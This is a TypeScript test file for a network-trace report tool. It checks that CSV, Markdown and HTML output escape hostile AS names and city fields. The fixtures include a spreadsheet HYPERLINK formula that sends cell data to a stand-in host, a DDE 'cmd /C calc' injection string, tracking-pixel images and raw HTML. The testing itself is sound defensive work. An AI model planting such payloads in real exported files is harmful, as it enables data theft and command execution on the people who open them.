// Each report format escapes for itself, on top of the cleaning outside text gets where it enters: an AS name or a
// city holding a spreadsheet formula, Markdown link and image syntax, raw HTML or an entity lands in the CSV as text
// (parsed back with csv-parse), in the Markdown escaped (the table and the bold stop line), in the HTML escaped.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { renderCsv, renderCsvComparison } from '../../src/report/csv.js';
import { traceDocument } from '../../src/report/document.js';
import type { ReportContext } from '../../src/report/document.js';
import { renderHtml } from '../../src/report/html.js';
import { renderMarkdown, renderMarkdownComparison } from '../../src/report/markdown.js';
import type { OwnerInfo } from '../../src/trace/owners.js';
import { context, report } from './firewalled-trace.js';

const FORMULA = '=HYPERLINK("https://x.example/?d="&A2,"AS details")';
const PIXEL = '![x](https://t.example/p.png) <img src=https://t.example/i.png> &#x202e; **bold** _it_ `code` ~~gone~~';
const owner = (asn: number, asName: string, city: string | null): OwnerInfo => ({ special: null, owner: { asn, asName, prefix: null, country: 'ZZ', city, registry: null, source: ['dns'] }, lookup: 'ok' });
const HOSTILE: Record<string, OwnerInfo> = {
  '198.18.1.2': owner(64500, FORMULA, null),
  // r2 is where traffic stops: its owner goes into the report's bold stop line.
  '198.18.2.2': owner(64501, PIXEL, '[Labville](https://x.example/track)'),
};
const hostile: ReportContext = { ...context, nameOf: (a) => (a === '198.18.1.2' ? '@SUM(1+1)*cmd|" /C calc"!A0' : a === '198.18.2.2' ? '-2+3' : null), ownerOf: (a) => HOSTILE[a] ?? null };

test('CSV: a cell that starts like a formula is written as text; parsed back, it is the text behind a quote', () => {
  const doc = traceDocument(report(), hostile);
  for (const csv of [renderCsv(doc), renderCsvComparison([doc])]) {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    assert.equal(rows[0]!.as_name, `'${FORMULA}`);
    assert.equal(rows[0]!.name, `'@SUM(1+1)*cmd|" /C calc"!A0`);
    assert.equal(rows[3]!.name, "'-2+3");
    for (const row of rows) for (const [column, cell] of Object.entries(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column}: ${cell}`);
  }
});

test('Markdown: link, image, HTML, entity and emphasis syntax from an AS name or a city is escaped, in the table and the stop line', () => {
  const doc = traceDocument(report(), hostile);
  for (const markdown of [renderMarkdown(doc), renderMarkdownComparison([doc])]) {
    const stop = markdown.split('\n').find((l) => l.startsWith('**Traffic to') && l.includes('stops at'));
    assert.equal(
      stop,
      '**Traffic to TCP/8443 (https-alt) stops at hop 2 (198.18.2.2, AS64501 !\\[x\\](https://t.example/p.png) \\<img src=https://t.example/i.png\\> \\&#x202e; \\*\\*bold\\*\\* \\_it\\_ \\`code\\` \\~\\~gone\\~\\~, \\[Labville\\](https://x.example/track), ZZ): filtered in path.**',
    );
    // Nowhere an unescaped opener of a link, an image, raw HTML or an entity.
    assert.doesNotMatch(markdown, /(?<!\\)\[[^\]]*\]\(|(?<!\\)<[a-z]|(?<!\\)&#/i);
    const row = markdown.split('\n').find((l) => l.startsWith('| 1 |'))!;
    assert.ok(row.includes('AS64500 =HYPERLINK("https://x.example/?d="\\&A2,"AS details")'), row);
    assert.equal(row.split(/(?<!\\)\|/).length, 9, 'the cells stay seven');
  }
});

test('HTML: the same strings stay escaped text', () => {
  const html = renderHtml(traceDocument(report(), hostile));
  assert.doesNotMatch(html, /<img|<script|https?:\/\/[^<]*"|&#x202e;/i);
  assert.ok(html.includes('&amp;#x202e;'));
  assert.ok(html.includes('&lt;img src=https://t.example/i.png&gt;'));
});
